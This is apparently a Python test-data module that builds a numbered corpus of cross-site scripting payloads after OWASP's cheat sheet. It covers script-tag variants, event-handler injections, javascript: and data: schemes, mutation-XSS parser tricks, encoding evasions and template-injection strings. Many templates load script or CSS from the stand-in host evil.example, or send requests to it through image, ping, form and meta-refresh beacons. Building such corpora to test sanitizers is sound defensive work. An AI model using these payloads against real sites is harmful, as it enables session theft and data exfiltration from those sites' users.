"""Payloads that have run script in pages of others, by family, after OWASP's cheat sheet and known advisories. Pure.

Each says ``alert(N)`` with a number of its own, by which it is known which one ran.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

TAGS = ("img", "svg", "body", "video", "audio", "details", "input", "iframe", "object", "marquee", "a", "math", "style")
EVENTS = (
    "onload onerror onclick onmouseover onfocus ontoggle onstart onanimationstart ontransitionend onbegin onpageshow "
    "onpointerenter onmouseenter onkeydown onpaste ondrag onselectstart onauxclick oncopy onscroll onwheel oninput onbeforetoggle onfocusin oncontentvisibilityautostatechange"
).split()
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "&#0000106avascript:{}",
    "jav&Tab;ascript:{}",
    "jav&NewLine;ascript:{}",
    "javascript://news.example/%0a{}",
    "javascript:/*--></title></style></textarea></script>*/{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "blob:{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "//evil.example/?{}",
    "\\\\evil.example\\{}",
    "https:evil.example/?{}",
)
HOLDERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text y="9">x</text></a></svg>',
)
WHOLE = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script >{}</script >",
    "<script/x>{}</script>",
    "<script\x0c>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script><!--{}-->",
    "<script src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<script>\x00{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</noscript><script>{}</script>",
    "</bdi></h1><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<xml:script>{}</xml:script>",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=data:text/javascript,{} /></svg>",
    "<svg><style><script>{}</script></style></svg>",
    "<svg><desc><script>{}</script></desc></svg>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:{} /><a id=x><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onload to={}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}></svg>#x'></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<math><a xlink:href=javascript:{}>x</a></math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>",
    "<title><p title='</title><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<noembed><p title='</noembed><img src=x onerror={}>'>",
    "<noframes><p title='</noframes><img src=x onerror={}>'>",
    "<plaintext><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<select><style></select><img src=x onerror={}></style></select>",
    "<table><td background=javascript:{}>x</td></table>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<object type=text/html data=javascript:{}></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<embed src=javascript:{}>",
    "<applet code=javascript:{}></applet>",
    "<frameset><frame src=javascript:{}></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
    "<meta http-equiv=Set-Cookie content='wireroom={}'>",
    "<base href=javascript:{}//><a href=x>x</a>",
    "<base href=https://evil.example/{}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<link rel=stylesheet href='https://evil.example/{}.css'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<link rel=preload as=script href=https://evil.example/{}>",
    "<style>@import 'https://evil.example/{}.css';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    "<style>*{{background:url(https://evil.example/{})}}</style>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationend={}>x</p>",
    "<p style='background:url(https://evil.example/{})'>x</p>",
    "<p style='behavior:url(#default#x);x:expression({})'>x</p>",
    "<p style='position:fixed;inset:0' onpointermove={}>x</p>",
    "<img src='https://evil.example/{}.gif'>",
    "<img srcset='https://evil.example/{}.gif 1x'>",
    "<picture><source srcset='https://evil.example/{}.gif'><img></picture>",
    "<video poster='https://evil.example/{}.gif'></video>",
    "<video><source src=x onerror={}></video>",
    "<audio src='https://evil.example/{}.mp3' autoplay></audio>",
    "<video><track default src='https://evil.example/{}.vtt'></video>",
    "<img src=x:{} onerror=eval(src.slice(2))>",
    "<img src='x' onerror={}//'>",
    "<img src=`x`onerror={}>",
    "<img/src=x/onerror={}>",
    "<img\nsrc=x\nonerror\n=\n{}>",
    "<img src=x onerror\x0b={}>",
    "<img \x00src=x onerror={}>",
    "<img src=x on\x00error={}>",
    "<IMG SRC=x ONERROR={}>",
    "<img src=x onerror=&#97;lert({n})>",
    "<img src=x:x onerror='\\u0061lert({n})'>",
    "<img src=x onerror={} //",
    "<img src=\"x\"\"onerror={}>",
    "<\x00img src=x onerror={}>",
    "<a href=# onclick={}>x",
    "<a ping=https://evil.example/{} href=#>x</a>",
    "<a href=https://evil.example target=_blank rel=opener onclick={}>x</a>",
    "<form id=x></form><button form=x formaction=javascript:{}>x</button>",
    "<form action=https://evil.example/{}><input name=csrf><button>x</button></form>",
    "<input type=image src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<input type=hidden accesskey=x onclick={}>",
    "<button popovertarget=x onclick={}>x</button><p popover id=x onbeforetoggle={}>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<dialog open onclose={}><form method=dialog><button>x</button></form></dialog>",
    "<isindex action=javascript:{} type=submit value=x>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>x</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "<img name=getElementById src=x onerror={}>",
    "<img name=cookie><form name=body><input name=children>{}</form>",
    "\" onmouseover={} x=\"",
    "' onmouseover={} x='",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "\" autofocus onfocus={} x=\"",
    "\" style=\"animation:x\" onanimationstart={} x=\"",
    "x\" onerror=\"{}",
    "`${{{}}}`",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}{{{{ {} }}}}",
    "#{{{}}}",
    "<%= {} %>",
    "<!--#exec cmd='{}'-->",
    "<!--><img src=x onerror={}>-->",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<!-- --!><img src=x onerror={}>",
    "<!doctype html><script>{}</script>",
    "<!ENTITY x '<script>{}</script>'>",
    "<?php echo '<script>{}</script>' ?>",
    "<?import namespace=x implementation='javascript:{}'>",
    "\u2028<script>{}</script>\u2029",
    "\u202e<script>{}</script>\u202c",
    "\ufeff<script>{}</script>",
    "<script>{}</script>" + "\u0300" * 20,
    "</main></body></html><script>{}</script>",
    "<p lang='\"><script>{}</script>'>x</p>",
    "<bdo dir='\" onclick={} x=\"'>x</bdo>",
    "<time datetime='\"><script>{}</script>'>x</time>",
    "<td colspan='1\" onclick={} x=\"'>x</td>",
    "<abbr title='\" onmouseover={} x=\"'>x</abbr>",
    "<q cite=javascript:{}>x</q>",
    "<blockquote cite='javascript:{}'>x</blockquote>",
)  # fmt: skip


def templates() -> Iterator[str]:
    """Give each payload with a place for its script."""
    yield from WHOLE
    for n, event in enumerate(EVENTS):
        for tag in (TAGS[n % len(TAGS)], TAGS[(n + 4) % len(TAGS)], TAGS[(n + 9) % len(TAGS)]):
            yield f"<{tag} src=x tabindex=1 contenteditable {event}={{}}>x</{tag}>"
    for n, scheme in enumerate(SCHEMES):
        yield scheme
        for holder in (HOLDERS[n % len(HOLDERS)], HOLDERS[(n + 2) % len(HOLDERS)], HOLDERS[0]):
            yield holder.replace("{}", scheme)


def payloads() -> list[str]:
    """List all payloads, each once, with its number in its script."""
    found = dict.fromkeys(templates())
    return [fill(template, n) for n, template in enumerate(found, 1)]


def fill(template: str, n: int) -> str:
    """Write the script of a payload's number into it."""
    text = template.replace("{n}", str(n))
    text = re.sub(r"(?<!\{)\{\}(?!\})|(?<=\{\{)\{\}(?=\}\})", f"alert({n})", text)
    return text.replace("{{", "{").replace("}}", "}")
